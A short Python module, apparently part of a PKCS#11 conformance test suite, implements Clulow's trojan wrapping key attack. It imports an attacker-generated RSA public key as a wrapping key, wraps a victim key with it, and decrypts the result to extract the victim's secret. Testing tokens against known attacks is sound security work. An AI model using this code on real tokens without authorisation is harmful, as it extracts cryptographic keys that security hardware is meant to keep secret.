"""Trojan wrapping key (Clulow 2003, section 3.5): the attacker's own public key is put in and wraps the victim."""

from cryptography.hazmat.primitives.asymmetric import padding, rsa

from conformance.attacks.token import CKA, CKK_RSA, CKO_PUBLIC_KEY, PKCS1, Token


def attack(token: Token, victim: int) -> bytes:
    """The victim's value."""
    mine = rsa.generate_private_key(public_exponent=0x10001, key_size=2048)
    modulus = mine.public_key().public_numbers().n.to_bytes(256, "big")
    trojan = token.create(
        {CKA.CLASS: CKO_PUBLIC_KEY, CKA.KEY_TYPE: CKK_RSA, CKA.MODULUS: modulus, CKA.PUBLIC_EXPONENT: b"\1\0\1",
         CKA.WRAP: True, CKA.ENCRYPT: False}
    )  # fmt: skip
    return mine.decrypt(token.wrap(PKCS1, trojan, victim), padding.PKCS1v15())
